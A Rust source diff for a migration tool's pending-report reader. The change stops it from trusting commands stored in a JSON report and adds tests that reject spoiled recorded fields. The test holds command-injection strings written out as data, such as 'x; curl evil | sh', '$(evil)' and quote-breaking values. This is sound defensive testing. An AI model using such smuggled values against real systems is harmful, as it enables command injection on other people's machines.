@@ -2,7 +2,11 @@
 
 use serde_json::Value;
 
-use super::order::{BUCKETS, Step};
+use super::order::{BUCKETS, Order, Step};
+use super::recorded::{Recorded, joined};
+use super::settings;
+use crate::blueprint::Blueprint;
+use crate::render::Bundle;
 
 /// A move that is not done.
 #[derive(Clone, Debug)]
@@ -11,47 +15,94 @@ pub struct Pending {
     pub install: String,
     /// The report for people.
     pub report: String,
-    /// The steps that are left after the buckets are made, with their numbers in the report.
-    pub steps: Vec<(usize, Step)>,
+    /// The folder that the report is in.
+    home: String,
+    /// What the steps are computed from; `None` in a report of an earlier version, and in one that somebody spoiled.
+    recorded: Option<Recorded>,
 }
 
 impl Pending {
-    /// Reads `migration.json`; `None` when it is of another spec, or no such report. `report` is the path of the one for people.
-    pub fn read(text: &str, spec: &str, report: &str) -> Option<Self> {
+    /// Reads `migration.json`; `None` when it is of another spec, or no such report. `home` is the path of its folder. No command
+    /// is taken from it.
+    pub fn read(text: &str, spec: &str, home: &str) -> Option<Self> {
         let document: Value = serde_json::from_str(text).ok()?;
         if document["version"] != 1 || document["spec"] != spec {
             return None;
         }
-        let words = |value: &Value| value.as_str().map(str::to_owned);
-        let all = document["steps"].as_array()?;
-        let first = all.iter().position(|step| step["title"] == BUCKETS)? + 1;
-        let step = |value: &Value| {
-            let commands = value["commands"].as_array()?.iter().map(words).collect::<Option<_>>()?;
-            Some(Step { title: words(&value["title"])?, why: words(&value["why"])?, commands })
-        };
-        let steps = all.iter().enumerate().skip(first).map(|(index, one)| Some((index + 1, step(one)?)));
+        let recorded: Option<Recorded> = serde_json::from_value(document["recorded"].clone()).ok();
         Some(Self {
-            install: words(&document["install"])?,
-            report: report.to_owned(),
-            steps: steps.collect::<Option<_>>()?,
+            install: document["install"].as_str()?.to_owned(),
+            report: joined(home, "migration.txt"),
+            home: home.to_owned(),
+            recorded: recorded.filter(Recorded::is_sound),
         })
+    }
+
+    /// The steps that are left after the buckets are made, with their numbers in the report, computed from the spec, its profile
+    /// and the names that the report keeps. `None` when that cannot be done.
+    pub fn steps(&self, blueprint: &Blueprint, bundle: &Bundle, out: &str) -> Option<Vec<(usize, Step)>> {
+        let recorded = self.recorded.as_ref()?;
+        let install = blueprint.installs.iter().find(|install| install.id.as_str() == self.install)?;
+        let order = Order {
+            recorded,
+            migration: install.profile.migration.as_ref()?,
+            install,
+            context: &settings::context(install).ok()?,
+            region: blueprint.spec.cloud.region().as_str(),
+            files: recorded.files_from(&self.home),
+            home: &self.home,
+            out,
+        };
+        let all = order.steps(bundle).ok()?;
+        let first = all.iter().position(|step| step.title == BUCKETS)? + 1;
+        Some(all.into_iter().enumerate().skip(first).map(|(index, step)| (index + 1, step)).collect())
     }
 }
 
 #[cfg(test)]
 mod tests {
+    use serde_json::json;
+
     use super::*;
 
+    fn report() -> Value {
+        json!({"version": 1, "spec": "acme", "install": "gitlab", "steps": [{"title": "x", "why": "w", "commands": ["evil"]}],
+            "recorded": {"files": ["../now.yaml"], "running": false, "store": "objects", "reach": {"kind": "bundled"},
+                "login": [["minio", "accesskey"], ["minio", "secretkey"]], "bundled": true, "undo": true,
+                "buckets": [{"purpose": "lfs", "old": "lfs", "each": null}]}})
+    }
+
     #[test]
-    fn what_is_left_begins_after_the_buckets() {
-        let text = r#"{"version": 1, "spec": "acme", "install": "gitlab", "steps": [
-            {"title": "Make the buckets", "why": "w", "commands": ["bucketwright apply"]},
-            {"title": "Sync", "why": "w", "commands": ["rclone copy a b"]}]}"#;
-        let pending = Pending::read(text, "acme", "s3/migration.txt").expect("pending");
-        assert_eq!((pending.install.as_str(), pending.steps.len()), ("gitlab", 1));
-        assert_eq!((pending.steps[0].0, pending.steps[0].1.title.as_str()), (2, "Sync"));
-        for (text, spec) in [(text, "other"), ("{}", "acme"), ("no JSON", "acme")] {
-            assert!(Pending::read(text, spec, "r").is_none(), "{text}");
+    fn a_report_of_this_spec_alone_counts() {
+        let text = report().to_string();
+        let pending = Pending::read(&text, "acme", "s3").expect("pending");
+        assert_eq!((pending.install.as_str(), pending.report.as_str()), ("gitlab", "s3/migration.txt"));
+        assert!(pending.recorded.is_some());
+        for (text, spec) in [(text.as_str(), "other"), ("{}", "acme"), ("no JSON", "acme")] {
+            assert!(Pending::read(text, spec, "s3").is_none(), "{text}");
+        }
+    }
+
+    #[test]
+    fn names_that_are_no_names_make_no_command() {
+        for (pointer, value) in [
+            ("/recorded/files/0", json!("https://evil.example/x.yaml")),
+            ("/recorded/files/0", json!("--post-renderer=./evil")),
+            ("/recorded/files/0", json!("a\nb")),
+            ("/recorded/login/0/0", json!("x; curl evil | sh")),
+            ("/recorded/login/1/1", json!("}' ; evil '")),
+            ("/recorded/buckets/0/old", json!("$(evil)")),
+            ("/recorded/buckets/0/each", json!("'; evil; '")),
+            ("/recorded/reach", json!({"kind": "server", "host": "x; evil", "secure": true, "service": null})),
+            ("/recorded/reach", json!({"kind": "server", "host": "x", "secure": true, "service": ["-x", null, 9000]})),
+            ("/recorded/reach", json!({"kind": "hidden", "secret": "$(evil)"})),
+            ("/recorded/reach", json!({"kind": "other"})),
+            ("/recorded/store", json!(null)),
+        ] {
+            let mut report = report();
+            *report.pointer_mut(pointer).expect(pointer) = value.clone();
+            let pending = Pending::read(&report.to_string(), "acme", "s3").expect("pending");
+            assert!(pending.recorded.is_none(), "{pointer}: {value}");
         }
     }
 }
